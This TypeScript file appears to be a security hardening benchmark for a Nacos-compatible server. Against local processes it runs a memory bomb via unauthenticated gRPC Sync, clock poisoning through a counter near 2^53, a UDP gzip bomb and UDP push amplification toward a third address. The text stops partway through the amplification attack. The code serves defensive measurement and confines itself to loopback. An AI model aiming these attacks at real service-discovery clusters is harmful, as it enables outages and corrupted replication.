/**
 * Hardening measurements: runs a fixed list of attacks against real ts-nacos node processes and prints one
 * table (attack, figure, value).
 *
 *   node --import tsx bench/hardening/attacks.ts --root <checkout> [--only a,b] [--json out.json]
 *
 * `--root` names the checkout whose BUILT node (`<root>/dist/src/main.js`) is attacked (build it first; the
 * npm-start-race attack runs `npm start`, which rebuilds it). This file imports only the generated schemas of
 * its own checkout (`gen/`, a stable wire contract) and packages; every gRPC call is raw bytes over a plain
 * grpc-js Client.
 *
 * Safety: every process listens on 127.0.0.1 only and every target is a loopback address (127.0.0.0/8);
 * registered instances use documentation addresses (192.0.2.x, 198.51.100.x, 203.0.113.x) that nothing
 * contacts. Attacks run one after another; every loop is bounded in count and time; every process started is
 * killed at the end, also on failure. Best run inside a loopback-only network namespace:
 *
 *   unshare -n bash -c 'ip link set lo up && node --import tsx bench/hardening/attacks.ts --root .'
 */
import { spawn, type ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { createSocket, type Socket as UdpSocket } from "node:dgram";
import { once } from "node:events";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import http from "node:http";
import net from "node:net";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import * as grpc from "@grpc/grpc-js";
import { SnapshotRequestSchema, SyncRequestSchema } from "../../gen/nacos/cluster/v1/distro_pb.js";
import { ReportRequestSchema } from "../../gen/nacos/cluster/v1/member_pb.js";
import { portIsFree } from "../../scripts/lib/port-free.js";

// ---------------------------------------------------------------------------------------------------------
// arguments

const HERE = path.dirname(fileURLToPath(import.meta.url));
const argv = process.argv.slice(2);
const argOf = (name: string): string | undefined => {
  const i = argv.indexOf(name);
  return i >= 0 ? argv[i + 1] : undefined;
};
const ROOT = path.resolve(argOf("--root") ?? path.join(HERE, "..", ".."));
const ONLY = argOf("--only")
  ?.split(",")
  .map((s) => s.trim())
  .filter((s) => s !== "");
const JSON_OUT = argOf("--json");
const MAIN = path.join(ROOT, "dist", "src", "main.js");
const SECRET = "s3cret";
const JAVA_UA = "Nacos-Java-Client:v1.4.0";
const MiB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------------------
// small utilities

const sleep = (ms: number) => new Promise<void>((r) => setTimeout(r, ms));
const trunc = (s: string, n = 160) => (s.length > n ? `${s.slice(0, n)}…` : s);
const oneLine = (s: string) => s.replace(/\s+/g, " ").trim();

async function withTimeout<T>(p: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  try {
    return await Promise.race([
      p,
      new Promise<T>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what}: timed out after ${ms} ms`)), ms))),
    ]);
  } finally {
    clearTimeout(timer);
  }
}

/** Polls `check` every `everyMs` until it is true or `timeoutMs` passed; returns whether it became true. */
async function poll(check: () => Promise<boolean> | boolean, timeoutMs: number, everyMs = 100): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    try {
      if (await check()) return true;
    } catch {
      // a failing check is a "not yet"
    }
    if (Date.now() >= deadline) return false;
    await sleep(everyMs);
  }
}

/** An instance as a Nacos 1.4 peer sends it inside a datum (port 80, cluster DEFAULT). */
function legacyInstance(ip: string, service: string): Record<string, unknown> {
  const instanceId = `${ip}#80#DEFAULT#${service}`;
  return {
    instanceId,
    ip,
    port: 80,
    weight: 1,
    healthy: true,
    enabled: true,
    ephemeral: true,
    clusterName: "DEFAULT",
    serviceName: service,
    metadata: {},
  };
}

function assertLoopback(host: string): void {
  if (!/^127\.\d{1,3}\.\d{1,3}\.\d{1,3}$/.test(host)) throw new Error(`refusing non-loopback target ${host}`);
}

const reserved = new Set<number>();
/** A free HTTP port whose gRPC companion (port + 1001) is free too, never handed out twice in this run. */
async function freePort(): Promise<number> {
  for (let attempt = 0; attempt < 100; attempt++) {
    const port = 20_000 + Math.floor(Math.random() * 30_000);
    if (reserved.has(port) || reserved.has(port + 1001) || reserved.has(port - 1001)) continue;
    if ((await portIsFree(port)) && (await portIsFree(port + 1001))) {
      reserved.add(port);
      return port;
    }
  }
  throw new Error("no free port pair found in 100 attempts");
}

function memOf(pid: number | undefined): { rssMB: number; hwmMB: number } | undefined {
  if (pid === undefined) return undefined;
  try {
    const status = readFileSync(`/proc/${pid}/status`, "utf8");
    const kb = (key: string) => Number(new RegExp(`^${key}:\\s+(\\d+) kB`, "m").exec(status)?.[1] ?? NaN);
    return { rssMB: kb("VmRSS") / 1024, hwmMB: kb("VmHWM") / 1024 };
  } catch {
    return undefined;
  }
}

const mb = (n: number) => `${n >= 0 ? "+" : ""}${n.toFixed(1)} MB`;
function memGrowth(before: ReturnType<typeof memOf>, after: ReturnType<typeof memOf>): { rss: string; hwm: string } {
  if (before === undefined || after === undefined) return { rss: "n/a (process gone)", hwm: "n/a (process gone)" };
  return {
    rss: `${mb(after.rssMB - before.rssMB)} (${before.rssMB.toFixed(0)} → ${after.rssMB.toFixed(0)} MB)`,
    hwm: `${mb(after.hwmMB - before.hwmMB)} (${before.hwmMB.toFixed(0)} → ${after.hwmMB.toFixed(0)} MB)`,
  };
}

// ---------------------------------------------------------------------------------------------------------
// HTTP

interface HttpAnswer {
  readonly status: number;
  readonly text: string;
  readonly json: () => any;
}

const agent = new http.Agent({ keepAlive: true, maxSockets: 16 });

/** One HTTP request (to a loopback URL only); status 0 and the error message as text when it fails. */
function request(
  method: string,
  url: string,
  options: { headers?: Record<string, string>; body?: string | Buffer; timeoutMs?: number; agent?: http.Agent | false } = {},
): Promise<HttpAnswer> {
  const u = new URL(url);
  assertLoopback(u.hostname);
  return new Promise((resolve) => {
    const headers: Record<string, string | number> = { ...options.headers };
    if (options.body !== undefined) headers["Content-Length"] = Buffer.byteLength(options.body);
    const req = http.request(
      {
        method,
        host: u.hostname,
        port: u.port,
        path: u.pathname + u.search,
        headers,
        agent: options.agent ?? agent,
        timeout: options.timeoutMs ?? 15_000,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (c: Buffer) => chunks.push(c));
        res.on("end", () => {
          const text = Buffer.concat(chunks).toString("utf8");
          resolve({ status: res.statusCode ?? 0, text, json: () => JSON.parse(text) });
        });
        res.on("error", (err) => resolve({ status: 0, text: String(err), json: () => undefined }));
      },
    );
    req.on("timeout", () => req.destroy(new Error(`timeout after ${options.timeoutMs ?? 15_000} ms`)));
    req.on("error", (err) => resolve({ status: 0, text: `error: ${err.message}`, json: () => undefined }));
    if (options.body !== undefined) req.write(options.body);
    req.end();
  });
}

/** Approximate bytes of a request on the wire: request line, the headers we send (plus Host/Connection), body. */
function requestBytes(method: string, url: string, headers: Record<string, string>, body = ""): number {
  const u = new URL(url);
  let text = `${method} ${u.pathname}${u.search} HTTP/1.1\r\nHost: ${u.host}\r\nConnection: keep-alive\r\n`;
  for (const [k, v] of Object.entries(headers)) text += `${k}: ${v}\r\n`;
  if (body !== "") text += `Content-Length: ${Buffer.byteLength(body)}\r\n`;
  return Buffer.byteLength(`${text}\r\n`) + Buffer.byteLength(body);
}

const qs = (params: Record<string, string | number>) =>
  new URLSearchParams(Object.entries(params).map(([k, v]): [string, string] => [k, String(v)])).toString();

/**
 * The liveness poller runs in its own small node process, so a busy harness (decoding what it receives, say)
 * never inflates the latencies it reports: GET liveness every 20 ms, one request at a time, worst latency.
 */
const PROBE_SCRIPT = `
const http = require("node:http");
const url = new URL(process.argv[1]);
const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
let stopped = false, worstMs = 0, samples = 0, failures = 0;
const once = () => new Promise((resolve) => {
  const t0 = performance.now();
  const done = (ok) => { const ms = performance.now() - t0; samples++; if (!ok) failures++; worstMs = Math.max(worstMs, ms); resolve(ms); };
  const req = http.get({ host: url.hostname, port: url.port, path: url.pathname, agent, timeout: 60000 }, (res) => {
    res.resume(); res.on("end", () => done(res.statusCode === 200)); res.on("error", () => done(false));
  });
  req.on("timeout", () => req.destroy(new Error("timeout")));
  req.on("error", () => done(false));
});
process.stdin.on("data", () => { stopped = true; });
process.stdin.on("end", () => { stopped = true; });
(async () => {
  while (!stopped) { const ms = await once(); await new Promise((r) => setTimeout(r, Math.max(0, 20 - ms))); }
  process.stdout.write(JSON.stringify({ worstMs, samples, failures }));
  agent.destroy();
})();
`;

function livenessProbe(base: string): { stop(): Promise<{ worstMs: number; samples: number; failures: number }> } {
  const u = new URL(base);
  assertLoopback(u.hostname);
  const child = spawn(process.execPath, ["-e", PROBE_SCRIPT, `${base}/nacos/v1/console/health/liveness`], {
    stdio: ["pipe", "pipe", "pipe"],
  });
  allChildren.add(child);
  child.once("exit", () => allChildren.delete(child));
  let out = "";
  child.stdout!.on("data", (d: Buffer) => (out += d.toString()));
  child.stderr!.on("data", () => {});
  return {
    async stop() {
      const exited = once(child, "exit");
      child.stdin!.end("stop\n");
      const timer = setTimeout(() => child.kill("SIGKILL"), 65_000);
      await exited;
      clearTimeout(timer);
      try {
        return JSON.parse(out) as { worstMs: number; samples: number; failures: number };
      } catch {
        return { worstMs: NaN, samples: 0, failures: 0 };
      }
    },
  };
}
const liveText = (l: { worstMs: number; samples: number; failures: number }) =>
  `${l.worstMs.toFixed(0)} ms (${l.samples} polls${l.failures > 0 ? `, ${l.failures} failed` : ""})`;

// ---------------------------------------------------------------------------------------------------------
// processes

const allChildren = new Set<ChildProcess>();

function killGroup(child: ChildProcess, signal: NodeJS.Signals): void {
  if (child.pid === undefined) return;
  try {
    process.kill(-child.pid, signal); // detached: the child leads its own group (npm → sh → node)
  } catch {
    try {
      child.kill(signal);
    } catch {
      // gone
    }
  }
}

process.on("exit", () => {
  for (const c of allChildren) killGroup(c, "SIGKILL");
});
for (const sig of ["SIGINT", "SIGTERM", "SIGHUP"] as const) {
  process.on(sig, () => {
    for (const c of allChildren) killGroup(c, "SIGKILL");
    process.exit(130);
  });
}

interface NodeProc {
  readonly label: string;
  readonly port: number;
  readonly grpcPort: number;
  readonly address: string;
  readonly url: string;
  readonly child: ChildProcess;
  readonly pid: number | undefined;
  output(): string;
  exited(): boolean;
  /** Set when the harness sent the signal that ended it. */
  stoppedByUs: boolean;
  stop(signal?: NodeJS.Signals, timeoutMs?: number): Promise<{ code: number | null; signal: string | null }>;
}

const OUTPUT_CAP = 4 * MiB;

function spawnTracked(command: string, args: string[], cwd: string, env: NodeJS.ProcessEnv): { child: ChildProcess; output: () => string } {
  const child = spawn(command, args, { cwd, env, stdio: ["ignore", "pipe", "pipe"], detached: true });
  allChildren.add(child);
  child.once("exit", () => allChildren.delete(child));
  let out = "";
  const add = (d: Buffer) => {
    out += d.toString();
    if (out.length > OUTPUT_CAP) out = out.slice(out.length - OUTPUT_CAP / 2);
  };
  child.stdout!.on("data", add);
  child.stderr!.on("data", add);
  return { child, output: () => out };
}

async function stopChild(
  child: ChildProcess,
  signal: NodeJS.Signals,
  timeoutMs: number,
): Promise<{ code: number | null; signal: string | null }> {
  if (child.exitCode !== null || child.signalCode !== null) return { code: child.exitCode, signal: child.signalCode };
  const exited = once(child, "exit") as Promise<[number | null, string | null]>;
  killGroup(child, signal);
  const timer = setTimeout(() => killGroup(child, "SIGKILL"), timeoutMs);
  const [code, sig] = await exited;
  clearTimeout(timer);
  return { code, signal: sig };
}

/** What a scope started; everything is released when the attack ends, whatever happened. */
class Scope {
  readonly nodes: NodeProc[] = [];
  private readonly cleanups: Array<() => unknown> = [];

  defer(fn: () => unknown): void {
    this.cleanups.push(fn);
  }

  async close(): Promise<void> {
    for (const fn of this.cleanups.reverse()) {
      try {
        await withTimeout(Promise.resolve().then(fn), 15_000, "cleanup");
      } catch {
        // keep cleaning
      }
    }
    for (const n of this.nodes) {
      if (!n.exited()) {
        n.stoppedByUs = true;
        await stopChild(n.child, "SIGKILL", 5_000).catch(() => undefined);
      }
    }
  }

  async node(options: {
    label: string;
    port?: number;
    host?: string;
    args?: string[];
    waitFor?: "ready" | "listening" | "nothing";
    timeoutMs?: number;
  }): Promise<NodeProc> {
    if (!existsSync(MAIN)) throw new Error(`${MAIN} does not exist: build the checkout first (npm run build)`);
    const port = options.port ?? (await freePort());
    const host = options.host ?? "127.0.0.1";
    assertLoopback(host);
    const args = [MAIN, "--port", String(port), "--host", host, ...(host === "127.0.0.1" ? [] : ["--ip", host]), ...(options.args ?? [])];
    const { child, output } = spawnTracked(process.execPath, args, ROOT, { ...process.env, NACOS_LOG_LEVEL: "info" });
    const grpcIdx = (options.args ?? []).indexOf("--grpc-port");
    const grpcPort = grpcIdx >= 0 ? Number(options.args![grpcIdx + 1]) : port + 1001;
    const proc: NodeProc = {
      label: options.label,
      port,
      grpcPort,
      address: `${host}:${port}`,
      url: `http://${host}:${port}`,
      child,
      pid: child.pid,
      output,
      exited: () => child.exitCode !== null || child.signalCode !== null,
      stoppedByUs: false,
      async stop(signal = "SIGTERM", timeoutMs = 10_000) {
        proc.stoppedByUs = true;
        return stopChild(child, signal, timeoutMs);
      },
    };
    this.nodes.push(proc);
    await this.waitFor(proc, options.waitFor ?? "ready", options.timeoutMs ?? 40_000);
    return proc;
  }

  async waitFor(proc: NodeProc, what: "ready" | "listening" | "nothing", timeoutMs: number): Promise<void> {
    if (what === "nothing") return;
    const p = what === "ready" ? "/nacos/v1/console/health/readiness" : "/nacos/v1/console/health/liveness";
    const ok = await poll(async () => {
      if (proc.exited()) throw new Error("exited");
      return (await request("GET", proc.url + p, { timeoutMs: 2_000 })).status === 200;
    }, timeoutMs);
    if (!ok || proc.exited()) {
      throw new Error(
        `${proc.label} (port ${proc.port}) not ${what} after ${timeoutMs} ms; exited=${proc.exited()}; output tail: ${trunc(oneLine(proc.output().slice(-600)), 600)}`,
      );
    }
  }

  /** `n` nodes forming one cluster, started together; resolves once every one is ready and sees all UP. */
  /** Two nodes that are members of each other (and of `extraMembers`). */
  async cluster(
    labels: [string, string],
    extraArgs: string[],
    options: { extraMembers?: string[]; waitUp?: boolean } = {},
  ): Promise<[NodeProc, NodeProc]> {
    const ports: number[] = [];
    for (const _ of labels) ports.push(await freePort());
    const members = [...ports.map((p) => `127.0.0.1:${p}`), ...(options.extraMembers ?? [])].join(",");
    const nodes = await Promise.all(
      labels.map((label, i) =>
        this.node({ label, port: ports[i]!, args: ["--members", members, ...extraArgs], waitFor: "ready", timeoutMs: 45_000 }),
      ),
    );
    if (options.waitUp !== false) for (const n of nodes) await waitMembersUp(n, labels.length, 20_000);
    return [nodes[0]!, nodes[1]!];
  }

  udp(host: string, port = 0): Promise<UdpSocket> {
    assertLoopback(host);
    const socket = createSocket("udp4");
    socket.on("error", () => {});
    this.defer(() => socket.close());
    return new Promise((resolve, reject) => {
      socket.once("error", reject);
      socket.bind(port, host, () => resolve(socket));
    });
  }
}

async function waitMembersUp(node: NodeProc, n: number, timeoutMs: number): Promise<void> {
  const ok = await poll(
    async () => {
      const r = await request("GET", `${node.url}/nacos/v1/core/cluster/simple/nodes`, { timeoutMs: 2_000 });
      return r.status === 200 && Array.isArray(r.json().data) && r.json().data.length >= n;
    },
    timeoutMs,
    200,
  );
  if (!ok) throw new Error(`${node.label}: fewer than ${n} members UP after ${timeoutMs} ms`);
}

async function ownerOf(node: NodeProc, serviceName: string): Promise<string> {
  const r = await request("GET", `${node.url}/nacos/v1/ns/operator/distro/server?${qs({ serviceName })}`, { timeoutMs: 5_000 });
  return r.status === 200 ? String(r.json().responsibleServer) : `HTTP ${r.status}`;
}

/** The first `${prefix}-k` that `node` says `owner` is responsible for. */
async function serviceOwnedBy(node: NodeProc, owner: string, prefix: string): Promise<string> {
  for (let k = 0; k < 200; k++) {
    const name = `${prefix}-${k}`;
    if ((await ownerOf(node, name)) === owner) return name;
  }
  throw new Error(`no service ${prefix}-0..199 is owned by ${owner} according to ${node.label}`);
}

async function register(
  node: NodeProc,
  params: Record<string, string | number>,
  headers: Record<string, string> = {},
): Promise<HttpAnswer> {
  return request("POST", `${node.url}/nacos/v1/ns/instance?${qs(params)}`, { headers });
}

async function lists(node: NodeProc, serviceName: string, ip: string, port: number): Promise<boolean> {
  const r = await request("GET", `${node.url}/nacos/v1/ns/instance/list?${qs({ serviceName })}`, { timeoutMs: 5_000 });
  if (r.status !== 200) return false;
  return (r.json().hosts as Array<{ ip: string; port: number }>).some((h) => h.ip === ip && h.port === port);
}

async function digest(node: NodeProc): Promise<string> {
  const r = await request("GET", `${node.url}/nacos/v1/ns/operator/distro/digest`, { timeoutMs: 5_000 });
  if (r.status !== 200) return `HTTP ${r.status} ${trunc(r.text, 80)}`;
  const d = r.json() as { keys: number; instances: number; digest: string };
  return `keys=${d.keys} instances=${d.instances} digest=${d.digest.slice(0, 12)}`;
}

// ---------------------------------------------------------------------------------------------------------
// raw gRPC (bytes in, bytes out; the schemas come from gen/)

const identity = (b: Buffer): Buffer => b;
const DISTRO = "/nacos.cluster.v1.DistroService";
const MEMBER = "/nacos.cluster.v1.MemberService";

function rawClient(
  scope: Scope,
  target: string,
  credentials = grpc.credentials.createInsecure(),
  options: grpc.ClientOptions = {},
): grpc.Client {
  assertLoopback(target.split(":")[0]!);
  const client = new grpc.Client(target, credentials, {
    "grpc.max_send_message_length": 64 * MiB,
    "grpc.max_receive_message_length": 64 * MiB,
    ...options,
  });
  scope.defer(() => client.close());
  return client;
}

function metadata(entries: Record<string, string>): grpc.Metadata {
  const md = new grpc.Metadata();
  for (const [k, v] of Object.entries(entries)) md.set(k, v);
  return md;
}

interface UnaryAnswer {
  readonly code: grpc.status;
  readonly details: string;
  readonly bytes: Buffer | undefined;
}

function unaryRaw(client: grpc.Client, method: string, bytes: Uint8Array, md: grpc.Metadata, timeoutMs = 30_000): Promise<UnaryAnswer> {
  const buf = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  return new Promise((resolve) => {
    client.makeUnaryRequest(method, identity, identity, buf, md, { deadline: Date.now() + timeoutMs }, (err, response) => {
      if (err) resolve({ code: err.code, details: err.details, bytes: undefined });
      else resolve({ code: grpc.status.OK, details: "", bytes: response });
    });
  });
}

const statusText = (a: UnaryAnswer) => `${grpc.status[a.code]}${a.details !== "" ? `: ${trunc(oneLine(a.details), 100)}` : ""}`;

interface DatumSpec {
  key: string;
  counter: bigint;
  writer: string;
  entries: Array<{ ip: string; port: number; metadata?: Record<string, string>; counter?: bigint }>;
}

/** A ServiceDatum init for SyncRequestSchema. */
function datumInit(d: DatumSpec) {
  const grouped = d.key.split("##")[1]!;
  return {
    key: d.key,
    deleted: false,
    meta: { protectThreshold: 0, metadata: {}, selector: { kind: { case: "none" as const, value: {} } } },
    metaVersion: { counter: d.counter, writer: d.writer },
    entries: d.entries.map((e) => ({
      id: `${e.ip}:${e.port}:unknown:DEFAULT:ephemeral`,
      version: { counter: e.counter ?? d.counter, writer: d.writer },
      instance: {
        instanceId: `${e.ip}#${e.port}#DEFAULT#${grouped}`,
        ip: e.ip,
        port: e.port,
        weight: 1,
        healthy: true,
        enabled: true,
        ephemeral: true,
        clusterName: "DEFAULT",
        serviceName: grouped,
        metadata: e.metadata ?? {},
        app: "DEFAULT",
        marked: false,
      },
    })),
  };
}

const syncBytes = (datums: DatumSpec[]): Uint8Array =>
  toBinary(SyncRequestSchema, create(SyncRequestSchema, { datums: datums.map(datumInit) }));

/** Datums of `perDatum` entries each for `count` services `prefix-i` (documentation addresses). */
function manyDatums(
  prefix: string,
  count: number,
  perDatum: number,
  writer: string,
  counter: bigint,
  meta: (i: number, j: number) => Record<string, string>,
): DatumSpec[] {
  const out: DatumSpec[] = [];
  for (let i = 0; i < count; i++) {
    const entries = [];
    for (let j = 0; j < perDatum; j++) {
      entries.push({ ip: `198.51.100.${(j % 250) + 1}`, port: 1 + Math.floor(j / 250) + (i % 60_000), metadata: meta(i, j) });
    }
    out.push({ key: `public##DEFAULT_GROUP@@${prefix}-${i}`, counter, writer, entries });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------
// results

interface Row {
  attack: string;
  figure: string;
  value: string;
}
const rows: Row[] = [];
const details: Record<string, unknown> = {};

type Attack = (scope: Scope, row: (figure: string, value: unknown) => void) => Promise<void>;

// ---------------------------------------------------------------------------------------------------------
// 1. an unauthenticated Sync is fully decoded before it is refused

const grpcUnauthDecode: Attack = async (s, row) => {
  const p1 = await freePort();
  const p2 = await freePort(); // configured member with nothing listening
  const a = await s.node({
    label: "A",
    port: p1,
    args: ["--members", `127.0.0.1:${p1},127.0.0.1:${p2}`, "--cluster-secret", SECRET],
    waitFor: "listening",
  });
  const grpcUp = await poll(() => portOpen("127.0.0.1", a.grpcPort), 10_000);
  if (!grpcUp) throw new Error("gRPC port never opened");
  const client = rawClient(s, `127.0.0.1:${a.grpcPort}`);
  // one datum: ~100 entries with some metadata; scale the count to the target size
  const meta = (i: number, j: number) => ({ zone: `zone-${j % 7}`, version: `1.${i % 10}.${j}`, owner: "team-bench-attack-xxxxxxxx" });
  const one = syncBytes(manyDatums("probe", 1, 100, `127.0.0.1:${p2}`, 1_700_000_000_000n, meta)).length;
  for (const target of [8, 15]) {
    const count = Math.floor((target * MiB) / (one + 4));
    const datums = manyDatums(`bomb${target}`, count, 100, `127.0.0.1:${p2}`, 1_700_000_000_000n, meta);
    const bytes = syncBytes(datums);
    datums.length = 0;
    await sleep(1_000);
    const before = memOf(a.pid);
    const live = livenessProbe(a.url);
    await sleep(200);
    const answer = await unaryRaw(client, `${DISTRO}/Sync`, bytes, new grpc.Metadata(), 60_000);
    await sleep(1_500);
    const l = await live.stop();
    const after = memOf(a.pid);
    const g = memGrowth(before, after);
    const label = `${(bytes.length / MiB).toFixed(1)} MiB (${count} datums × 100 entries), no secret`;
    row(`${label}: gRPC status`, statusText(answer));
    row(`${label}: worst liveness`, liveText(l));
    row(`${label}: RSS growth`, g.rss);
    row(`${label}: VmHWM growth`, g.hwm);
  }
  row("node alive after", a.exited() ? "no (exited)" : "yes");
};

function portOpen(host: string, port: number): Promise<boolean> {
  assertLoopback(host);
  return new Promise((resolve) => {
    const sock = net.connect({ host, port });
    sock.setTimeout(1_000, () => {
      sock.destroy();
      resolve(false);
    });
    sock.on("connect", () => {
      sock.destroy();
      resolve(true);
    });
    sock.on("error", () => resolve(false));
  });
}

// ---------------------------------------------------------------------------------------------------------
// 2. a version counter near 2^53 poisons the hybrid logical clock

const POISON = 2 ** 53 - 10;

async function replicationAfterPoison(a: NodeProc, b: NodeProc, tag: string, row: (f: string, v: unknown) => void): Promise<void> {
  const x = await serviceOwnedBy(a, a.address, `hlc-${tag}`);
  const first = await register(a, { serviceName: x, ip: "192.0.2.10", port: 80 });
  row(`${tag}: register on A (${x}) after poison`, `HTTP ${first.status} ${trunc(oneLine(first.text), 80)}`);
  const firstSeen = await poll(() => lists(b, x, "192.0.2.10", 80), 5_000, 100);
  row(`${tag}: B lists it within 5 s`, firstSeen ? "yes" : "no");
  // more writes carry the clock past 2^53 - 1
  const statuses: number[] = [];
  for (let k = 1; k <= 15; k++) statuses.push((await register(a, { serviceName: x, ip: "192.0.2.10", port: 80 + k })).status);
  row(`${tag}: 15 more registers on A, statuses`, summarizeStatuses(statuses));
  const lastSeen = await poll(() => lists(b, x, "192.0.2.10", 95), 5_000, 100);
  row(`${tag}: B lists the 15th within 5 s`, lastSeen ? "yes" : "no");
  row(`${tag}: digest A`, await digest(a));
  row(`${tag}: digest B`, await digest(b));
  row(`${tag}: replication after poison`, firstSeen && lastSeen ? "works" : firstSeen ? "stopped (after a few writes)" : "stopped");
  for (const n of [a, b]) {
    const warned = warnings(n.output()).filter((w) => !w.startsWith("no cluster secret configured"));
    if (warned.length > 0) row(`${tag}: ${n.label}'s warnings`, trunc(warned.slice(0, 2).join(" | "), 220));
    details[`hlc-poison:${tag}:${n.label}-warnings`] = warned.slice(0, 20);
  }
}

function summarizeStatuses(statuses: number[]): string {
  const counts = new Map<number, number>();
  for (const st of statuses) counts.set(st, (counts.get(st) ?? 0) + 1);
  return [...counts].map(([st, n]) => `${n}× ${st}`).join(", ");
}

const hlcPoison: Attack = async (s, row) => {
  // (a) over gRPC, with the secret, as member B
  {
    const [a, b] = await s.cluster(["A", "B"], ["--cluster-secret", SECRET, "--sync-delay-ms", "100"]);
    const client = rawClient(s, `127.0.0.1:${a.grpcPort}`);
    const bytes = syncBytes([
      { key: "public##DEFAULT_GROUP@@poison-grpc", counter: BigInt(POISON), writer: b.address, entries: [{ ip: "192.0.2.99", port: 80 }] },
    ]);
    const answer = await unaryRaw(
      client,
      `${DISTRO}/Sync`,
      bytes,
      metadata({ "x-nacos-cluster-secret": SECRET, "x-nacos-source": b.address }),
    );
    row("grpc: poison Sync (counter 2^53-10, as B) status", statusText(answer));
    await replicationAfterPoison(a, b, "grpc", row);
    await a.stop(); // stop this pair before the next
    await b.stop();
  }
  // (b) over the client HTTP port, legacy PUT /distro/datum with the versioned extension, cluster without secret
  {
    const [a, b] = await s.cluster(["C", "D"], ["--sync-delay-ms", "100"]);
    const service = "DEFAULT_GROUP@@poison-http";
    const legacyKey = `com.alibaba.nacos.naming.iplist.ephemeral.public##${service}`;
    const instance = legacyInstance("192.0.2.98", service);
    const version = { counter: POISON, writer: b.address };
    const body = JSON.stringify({
      [legacyKey]: {
        key: legacyKey,
        value: { instanceList: [instance] },
        timestamp: 1,
        tsNacos: {
          deleted: false,
          meta: { protectThreshold: 0, metadata: {}, selector: { type: "none" } },
          metaVersion: version,
          entries: [{ id: "192.0.2.98:80:unknown:DEFAULT:ephemeral", version }],
        },
      },
    });
    const r = await request("PUT", `${a.url}/nacos/v1/ns/distro/datum?${qs({ source: b.address })}`, {
      headers: { "Content-Type": "application/json" },
      body,
    });
    row("http: poison PUT /nacos/v1/ns/distro/datum (no secret) status", `HTTP ${r.status} ${trunc(oneLine(r.text), 80)}`);
    await replicationAfterPoison(a, b, "http", row);
  }
};

// ---------------------------------------------------------------------------------------------------------
// 3. gzip bomb to the UDP push socket

const udpGzipBomb: Attack = async (s, row) => {
  const a = await s.node({ label: "standalone" });
  const listener = await s.udp("127.0.0.1");
  const pushes: Array<{ port: number; address: string }> = [];
  listener.on("message", (_msg, rinfo) => pushes.push({ port: rinfo.port, address: rinfo.address }));
  const udpPort = listener.address().port;
  const service = "bomb-s";
  const list = () =>
    request("GET", `${a.url}/nacos/v1/ns/instance/list?${qs({ serviceName: service, udpPort, clientIP: "127.0.0.1" })}`, {
      headers: { "User-Agent": JAVA_UA },
    });
  await list();
  const reg = await register(a, { serviceName: service, ip: "192.0.2.30", port: 80 });
  if (reg.status !== 200) throw new Error(`register failed: ${reg.status} ${reg.text}`);
  const got = await poll(() => pushes.length > 0, 6_000, 50);
  if (!got) throw new Error("no push datagram arrived within 6 s");
  const target = pushes[0]!;
  assertLoopback(target.address);
  row("push socket found", `${target.address}:${target.port}`);
  const bomb = gzipSync(Buffer.alloc(32 * MiB), { level: 9 });
  row("datagram", `${bomb.length} B gzip of 32 MiB of zeros, × 20`);
  const attacker = await s.udp("127.0.0.1");
  await sleep(500);
  const before = memOf(a.pid);
  const live = livenessProbe(a.url);
  await sleep(200);
  for (let i = 0; i < 20; i++) {
    await new Promise<void>((resolve) => attacker.send(bomb, target.port, target.address, () => resolve()));
  }
  await sleep(3_000);
  const l = await live.stop();
  const after = memOf(a.pid);
  const g = memGrowth(before, after);
  row("worst liveness", liveText(l));
  row("RSS growth", g.rss);
  row("VmHWM growth", g.hwm);
  row("node alive after", a.exited() ? "no (exited)" : "yes");
};

// ---------------------------------------------------------------------------------------------------------
// 4. UDP push as an amplifier towards a third address

const udpAmplification: Attack = async (s, row) => {
  const a = await s.node({ label: "standalone" });
  const victim = await s.udp("127.0.0.2");
  const victimPort = victim.address().port;
  let udpBytes = 0;
  let udpDatagrams = 0;
  victim.on("message", (msg) => {
    udpBytes += msg.length;
    udpDatagrams++;
  });
  const SERVICES = 100;
  const PER = 20;
  const names = Array.from({ length: SERVICES }, (_, i) => `amp-${i}`);
  // long beat/delete timeouts so no instance turns unhealthy (and pushes) on its own during the run
  const metaOf = () =>
    JSON.stringify({
      "preserved.heart.beat.timeout": "600000",
      "preserved.ip.delete.timeout": "600000",
      blob: randomBytes(150).toString("hex"),
    });
  const metas = names.map(() => Array.from({ length: PER }, metaOf));
  let setupStatuses: number[] = [];
  const setupDeadline = Date.now() + 120_000;
  for (let i = 0; i < SERVICES && Date.now() < setupDeadline; i++) {
    const batch = [];
    for (let j = 0; j < PER; j++)
      batch.push(
        register(a, { serviceName: names[i]!, ip: `198.51.100.${j + 1}`, port: 8080, metadata: metas[i]![j]! }).then((r) => r.status),
      );
    setupStatuses = setupStatuses.concat(await Promise.all(batch));
  }
  row("setup registers", `${summarizeStatuses(setupStatuses)} (${SERVICES} services × ${PER} instances, ~330 B metadata each)`);
  await sleep(1_500);
  udpBytes = 0;
  udpDatagrams = 0;
  let sentPolls = 0;
  let sentChanges = 0;
  const headers = { "User-Agent": JAVA_UA };
  for (const name of names) {
    const url = `${a.url}/nacos/v1/ns/instance/list?${qs({ serviceName: name, clientIP: "127.0.0.2", udpPort: victimPort })}`;
    sentPolls += requestBytes("GET", url, headers);
    await request("GET", url, { headers });
  }
  const changeStatuses: number[] = [];
  for (let round = 0; round < 4; round++) {
    for (let i = 0; i < SERVICES; i++) {
      const url = `${a.url}/nacos/v1/ns/instance?${qs({ serviceName: names[i]!, ip: "198.51.100.1", port: 8080, weight: round + 2, metadata: metas[i]![0]! })}`;
      sentChanges += requestBytes("POST", url, {});
      changeStatuses.push((await request("POST", url)).status);
    }
    await sleep(1_100); // past the 1 s push coalescing window, so each round is its own push
  }
  const lastChange = Date.now();
  await sleep(Math.max(0, lastChange + 5_000 - Date.now()));
  const within5 = { bytes: udpBytes, datagrams: udpDatagrams };
  await sleep(Math.max(0, lastChange + 13_000 - Date.now()));
